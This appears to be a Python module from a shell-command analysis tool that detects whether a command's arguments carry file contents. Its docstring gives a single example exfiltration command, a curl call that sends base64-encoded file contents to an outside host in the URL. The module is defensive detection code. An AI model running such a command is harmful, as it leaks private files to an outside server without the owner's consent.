"""Whether words of a command hold what is in a file: `curl "https://example.net/$(base64 notes)"`."""

from wicket.shell.programs.printed_file_contents import OF_FILES

TYPE_CHECKING = False
if TYPE_CHECKING:
    from wicket.shell.read_result import Command

__all__ = ["carries_files"]

_OUTPUT = "the output of "


def carries_files(command: "Command") -> bool:
    """Tell whether a word of a command, other than its name, is made of what a program prints of a file.

    A whole word that is one line of a file is what the request is about, and not what it sends.
    """
    return any(
        OF_FILES in reason and (reason.startswith(_OUTPUT) or any(word.shape))
        for word in command.words[1:]
        for reason in word.reasons
    )
